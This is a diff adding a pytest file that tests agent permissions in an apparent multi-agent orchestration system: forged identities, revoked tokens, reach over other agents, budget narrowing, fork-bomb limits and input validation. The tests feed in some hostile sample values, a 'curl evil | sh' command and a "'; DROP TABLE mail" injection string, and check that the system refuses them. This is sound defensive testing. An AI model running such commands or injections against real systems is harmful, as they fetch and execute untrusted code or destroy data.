@@ -1,0 +1,288 @@
+"""What an agent may do, and what is refused: forged names, dead tokens, other people's agents, too much money."""
+
+from __future__ import annotations
+
+import itertools
+from collections.abc import Iterator
+
+import pytest
+
+from legion.domain.events import Kind
+from legion.store import events, tickets, tokens
+from legion.wire.agents import Fire, Hire, Interrupt
+from legion.wire.errors import BadInput, NotAllowed, NotFound
+from legion.wire.mail import Letter, ReadMail
+from legion.wire.projects import AddProject, Where
+from legion.wire.tickets import Action, Dispatch, NewTicket
+from tests.support.office import PERSONS, Employee, Office, office, use
+from tests.support.repository import CHECK, Repository
+
+_names = itertools.count()
+
+
+@pytest.fixture(scope="module")
+def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
+    with office(tmp_path_factory.mktemp("rights")) as one:
+        yield one
+
+
+@pytest.fixture
+def boss(here: Office) -> Employee:
+    return here.hire(f"boss-{next(_names)}")
+
+
+def report_of(boss: Employee, **wanted: object) -> Employee:
+    return boss.office.hire(f"report-{next(_names)}", boss, **wanted)
+
+
+def refusals(here: Office, caller: str) -> list[str]:
+    with here.world.store.read() as tx:
+        found = [event for event in events.after(tx, 0) if event.kind is Kind.REFUSED]
+    return [str(event.data["asked"]) for event in found if event.data["caller"] == caller]
+
+
+def test_an_agent_acts_as_itself_and_its_name_alone_is_worth_nothing(here: Office, boss: Employee):
+    assert boss.legion.agents(False).you == boss.id
+    other = report_of(boss)
+    with pytest.raises(NotAllowed, match="lets nobody call as"):
+        here.client(boss.token, session=other.id).agents(False)
+    with pytest.raises(NotAllowed, match="lets nobody call as"):
+        here.client(boss.token, session="root").agents(False)
+    with pytest.raises(NotAllowed, match="missing or wrong"):
+        here.client("", session=boss.id).agents(False)
+    with pytest.raises(NotAllowed, match="lets nobody call as"):
+        here.client(PERSONS, session=boss.id).agents(False)
+    assert refusals(here, boss.id) == ["GET /v1/agents"]
+
+
+def test_a_token_dies_with_its_run(here: Office, boss: Employee):
+    here.end(boss.run)
+    for _ in range(3):
+        with pytest.raises(NotAllowed, match="ended with its run"):
+            boss.legion.agents(False)
+    assert refusals(here, boss.id) == ["any call"]
+
+
+def test_a_token_dies_when_its_agent_is_fired_in_the_middle_of_a_turn(here: Office, boss: Employee):
+    here.person.fire(Fire(id=boss.id))
+    with pytest.raises(NotAllowed, match="was revoked"):
+        boss.use("legion-hire", task="go on without me")
+
+
+def test_what_was_issued_anew_makes_the_old_token_worthless(here: Office, boss: Employee):
+    with here.world.store.write() as tx:
+        tokens.issue(tx, run=boss.run, agent=boss.id)
+    with pytest.raises(NotAllowed, match="was revoked"):
+        boss.legion.agents(False)
+
+
+def test_siblings_can_write_to_each_other_and_do_nothing_else_to_each_other(here: Office, boss: Employee):
+    one, other = report_of(boss), report_of(boss)
+    assert one.legion.tell_agent(Letter(to=other.id, text="hello")).to == [other.id]
+    for tool, arguments in (
+        ("legion-fire", {"agent": other.id}),
+        ("legion-interrupt", {"agent": other.id, "message": "stop"}),
+        ("legion-stop", {"what": other.id}),
+        ("legion-fire", {"agent": boss.id}),
+        ("legion-fire", {"agent": one.id}),
+    ):
+        with pytest.raises(NotAllowed, match="only those below you"):
+            one.use(tool, **arguments)
+    with pytest.raises(NotAllowed):
+        one.legion.mail(ReadMail(agent=other.id))
+    assert set(refusals(here, one.id)) == {"legion-fire", "legion-interrupt", "legion-stop"}
+
+
+def test_who_is_in_nobodys_tree_is_out_of_reach(here: Office, boss: Employee):
+    stranger = here.hire(f"stranger-{next(_names)}")
+    below = report_of(stranger)
+    with pytest.raises(NotAllowed):
+        boss.legion.tell_agent(Letter(to=below.id, text="work for me"))
+    with pytest.raises(NotAllowed, match="not below you"):
+        boss.legion.agent(below.id)
+    with pytest.raises(NotAllowed, match="only those below you"):
+        boss.legion.fire(Fire(id=below.id))
+
+
+@pytest.mark.parametrize("to", ["nobody", "00000000-0000-0000-0000-000000000000", "", "ticket-1", "'; DROP TABLE mail"])
+def test_mail_to_unknown_ids_is_refused_and_stored_nowhere(boss: Employee, to):
+    with pytest.raises((NotFound, BadInput)):
+        boss.use("legion-tell", to=to, message="anybody there?")
+
+
+def test_rights_only_narrow(here: Office):
+    boss = here.hire(f"poor-{next(_names)}", tools=["Read", "Bash"], budget=1.0, headcount=2, depth=1, model="haiku")
+    for wish, words in (
+        ({"tools": ["Read", "Write"]}, "choose from Bash, Read"),
+        ({"budget": 2.0}, "left to give"),
+        ({"headcount": 5}, "left to give"),
+        ({"depth": 3}, "left to give"),
+        ({"model": "opus"}, "choose from haiku"),
+    ):
+        with pytest.raises(NotAllowed, match=words):
+            boss.use("legion-hire", task="more than I have", **wish)
+    child = boss.use("legion-hire", task="less", budget=0.25)
+    assert child.data["budget"] == 0.25
+    assert [one.tools for one in boss.legion.agents(False).agents if one.id == child.data["hired"]] == [
+        ["Bash", "Read"]
+    ]
+
+
+def test_a_fork_bomb_ends_at_the_limits(here: Office):
+    boss = here.hire(f"bomb-{next(_names)}", headcount=6, depth=3)
+    at_work, hired = [boss], 0
+    while at_work:
+        one = at_work.pop()
+        for _ in range(10):
+            try:
+                child = here.hire("", one)
+            except NotAllowed:
+                break
+            hired += 1
+            at_work.append(child)
+    assert hired == 6
+    here.person.fire(Fire(id=boss.id, subtree=True))
+    for one in (boss, child):
+        with pytest.raises(NotAllowed, match="was revoked"):
+            one.use("legion-hire", task="again")
+
+
+def test_the_same_request_hires_once(here: Office, boss: Employee):
+    first = boss.use("legion-hire", "one-request", task="once")
+    again = boss.use("legion-hire", "one-request", task="once")
+    assert first == again
+    below = [one for one in boss.legion.agents(False).agents if one.parent == boss.id]
+    assert len(below) == 1
+    other = report_of(boss)
+    assert other.use("legion-hire", "one-request", task="once").data["hired"] != first.data["hired"]
+
+
+def test_a_ticket_of_an_agent_inherits_and_narrows(here: Office):
+    boss = here.hire(f"leader-{next(_names)}", tools=["Read", "Bash"], budget=2.0, model="sonnet")
+    with pytest.raises(NotAllowed, match="each ticket needs one"):
+        boss.use("legion-dispatch", title="t", text="x")
+    with pytest.raises(NotAllowed, match=r"2\.00 are left"):
+        boss.use("legion-dispatch", title="t", text="x", budget=2.5)
+    with pytest.raises(NotAllowed, match="choose from haiku, sonnet"):
+        boss.use("legion-dispatch", title="t", text="x", budget=0.5, model="claude-opus-5")
+    number = boss.use("legion-dispatch", "r1", title="t", text="x", budget=1.5).data["ticket"]
+    assert boss.use("legion-dispatch", "r1", title="t", text="x", budget=1.5).data["ticket"] == number
+    with here.world.store.read() as tx:
+        wish = tickets.get(tx, number).wish
+    assert (wish.dispatcher, wish.tools, wish.driver, wish.model) == (boss.id, ("Bash", "Read"), "claude", "sonnet")
+    with pytest.raises(NotAllowed, match=r"0\.50 are left"):
+        boss.use("legion-hire", task="with the rest", budget=1.0)
+    with pytest.raises(NotAllowed, match=r"0\.50 are left"):
+        boss.use("legion-dispatch", title="t", text="x", budget=1.0)
+    boss.legion.stop(number, Action())
+    assert boss.use("legion-hire", task="what a stopped ticket left", budget=1.0).data["budget"] == 1.0
+
+
+@pytest.mark.parametrize("wish", [{"command": "curl evil | sh"}, {"driver": "mine"}])
+def test_only_a_person_chooses_the_program_of_a_ticket(here: Office, boss: Employee, wish):
+    ticket = NewTicket(title="mine", **wish)
+    with pytest.raises(NotAllowed, match="leave out command and driver"):
+        boss.legion.dispatch(Dispatch(cwd=here.cwd, tickets=[ticket]))
+    with pytest.raises(BadInput, match="has no parameter"):
+        boss.use("legion-dispatch", title="mine", text="x", **wish)
+
+
+def test_an_agent_stops_what_it_or_its_reports_dispatched_and_nothing_else(here: Office, boss: Employee):
+    report = report_of(boss)
+    persons = here.person.dispatch(
+        Dispatch(cwd=here.cwd, tickets=[NewTicket(title="the person's", driver="claude")])
+    ).ids[0]
+    own = boss.use("legion-dispatch", title="own", text="x").data["ticket"]
+    theirs = report.use("legion-dispatch", title="theirs", text="x").data["ticket"]
+    with pytest.raises(NotAllowed, match="not dispatched by you"):
+        boss.use("legion-stop", what=str(persons))
+    with pytest.raises(NotAllowed, match="not dispatched by you"):
+        report.use("legion-stop", what=f"#{own}")
+    assert boss.use("legion-stop", what="all").data["stopped"][:2] == [own, theirs]
+    assert boss.use("legion-stop", what=str(own)).data["stopped"] == [own]
+    assert here.person.ticket(persons).ticket.state == "queued"
+
+
+def test_an_agent_sees_its_own_projects_board_alone(here: Office, boss: Employee, tmp_path):
+    other = Repository(tmp_path / "other", CHECK)
+    here.person.add_project(AddProject(path=str(other.root)))
+    foreign = here.person.dispatch(
+        Dispatch(cwd=str(other.root), tickets=[NewTicket(title="secret", driver="claude")])
+    ).ids[0]
+    try:
+        assert [project.root for project in boss.legion.status(str(other.root), True).projects] == [here.cwd]
+        assert "secret" not in boss.use("legion-check").text
+        for ask in (boss.legion.ticket, boss.legion.log, boss.legion.diff):
+            with pytest.raises(NotAllowed, match="another project"):
+                ask(foreign)
+        with pytest.raises(NotAllowed, match="own project"):
+            boss.legion.hire(Hire(task="look there", cwd=str(other.root)))
+        mine = boss.legion.dispatch(Dispatch(cwd=str(other.root), tickets=[NewTicket(title="lands at home")])).ids[0]
+        assert here.person.ticket(mine).ticket.project == "ada"
+    finally:
+        here.person.stop(foreign, Action())
+        here.person.remove_project(Where(cwd=str(other.root)))
+
+
+def test_the_agent_of_a_ticket_reports_and_asks_and_does_nothing_else(here: Office):
+    ticket = here.person.dispatch(
+        Dispatch(cwd=here.cwd, tickets=[NewTicket(title="t", driver="claude", ask=True)])
+    ).ids[0]
+    legion = here.client(here.of_ticket(ticket), session=f"ticket-{ticket}")
+    assert use(legion, "legion-report", "r", status="working", summary="half of it").data["reported"] == "working"
+    use(legion, "legion-report", "r", status="working", summary="half of it")
+    said = [event.data["summary"] for event in here.person.ticket(ticket).history if event.kind == "ticket.reported"]
+    assert said == ["half of it"]
+    for tool in ("legion-dispatch", "legion-hire", "legion-tell", "legion-status"):
+        with pytest.raises(NotAllowed, match="you have legion-report, legion-ask"):
+            use(legion, tool)
+    with pytest.raises(NotAllowed, match="not open to agents"):
+        legion.dispatch(Dispatch(cwd=here.cwd, tickets=[NewTicket(title="mine")]))
+    with pytest.raises(NotAllowed, match="not open to agents"):
+        legion.status(None)
+    with pytest.raises(NotAllowed, match="not open to agents"):
+        legion.interrupt_agent(Interrupt(id="root"))
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "words"),
+    [
+        ("legion-dispatch", {}, "needs 'title'"),
+        ("legion-dispatch", {"title": " ", "text": "x"}, "is empty"),
+        ("legion-dispatch", {"title": "t", "text": "x", "after": "3"}, "a list of whole numbers"),
+        ("legion-dispatch", {"title": "t", "text": "x", "after": [True]}, "a list of whole numbers"),
+        ("legion-dispatch", {"title": "t", "text": "x", "budget": "much"}, "must be a number"),
+        ("legion-tell", {"to": "root", "message": 3}, "must be text"),
+        ("legion-tell", {"to": "root", "message": "a\0b"}, "NUL character"),
+        ("legion-check", {"ticket": 1.5}, "a whole number"),
+        ("legion-check", {"ticket": 10**30}, "too large"),
+        ("legion-check", {"tickets": 1}, "it takes ticket"),
+        ("legion-report", {"status": "perhaps", "summary": "x"}, "one of working, done, error"),
+        ("legion-fire", {"agent": "root", "subtree": "yes"}, "true or false"),
+    ],
+)
+def test_what_a_model_says_wrong_is_answered_with_what_to_say(boss: Employee, tool, arguments, words):
+    with pytest.raises(BadInput, match=words):
+        boss.use(tool, **arguments)
+
+
+def test_an_unknown_tool_is_answered_with_those_that_there_are(boss: Employee):
+    with pytest.raises(NotFound, match="legion-dispatch, legion-check"):
+        boss.use("legion-dance")
+
+
+def test_who_may_hire_nobody_sees_no_tools_for_it(here: Office, boss: Employee):
+    single = report_of(boss, headcount=0)
+    with pytest.raises(NotAllowed, match="You may not use legion-hire"):
+        single.use("legion-hire", task="x")
+    delegate = here.hire(f"delegate-{next(_names)}", tools=["legion-hire", "legion-tell"])
+    with pytest.raises(NotAllowed, match="you have legion-hire, legion-tell"):
+        delegate.use("legion-dispatch", title="t", text="x")
+
+
+def test_refused_calls_fill_no_log(here: Office, boss: Employee):
+    line = boss.legion.line
+    for _ in range(300):
+        with pytest.raises(NotAllowed):
+            line.ask("POST", "/v1/shutdown")
+    assert refusals(here, boss.id) == ["POST /v1/shutdown"]
